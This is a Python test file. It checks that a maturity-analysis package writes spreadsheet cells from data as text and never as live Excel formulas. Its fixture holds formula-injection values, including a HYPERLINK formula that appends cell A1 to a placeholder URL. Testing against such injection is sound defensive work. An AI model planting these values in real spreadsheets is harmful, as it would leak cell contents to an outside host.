"""Text from the data is written as text in every workbook, never as a live formula."""

import openpyxl
import pytest

from maturity_analysis.output.calllist import write_templates
from maturity_analysis.output.excel import no_formulas
from maturity_analysis.output.workbook import write_tables_workbook

HOSTILE = {
    "branch_name": '=HYPERLINK("http://example.invalid/?"&A1,"点此")',
    "product_name": "=1+1",
    "manager": "@SUM(1)",
}


@pytest.fixture
def hostile(sample_policies):
    book = sample_policies[sample_policies["branch_code"] == sample_policies["branch_code"].min()]
    return book.assign(**HOSTILE)


def _cells(path):
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]


def test_tables_workbook_holds_no_formula(hostile, tmp_path):
    path = write_tables_workbook(hostile, tmp_path / "t.xlsx", hostile["branch_code"].iloc[0])
    cells = _cells(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert HOSTILE["branch_name"] in {c.value for c in cells}  # kept, as text


def test_call_list_workbook_holds_no_formula(hostile, tmp_path):
    (path,) = write_templates(hostile, (2013, 3), tmp_path)
    cells = _cells(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == HOSTILE["product_name"] for c in cells)


def test_no_formulas_turns_formula_cells_into_text():
    wb = openpyxl.Workbook()
    wb.active.append(["=2+2", "-3", 5])
    cells = list(no_formulas(wb).active.iter_rows())[0]
    assert [(c.value, c.data_type) for c in cells] == [("=2+2", "s"), ("-3", "s"), (5, "n")]
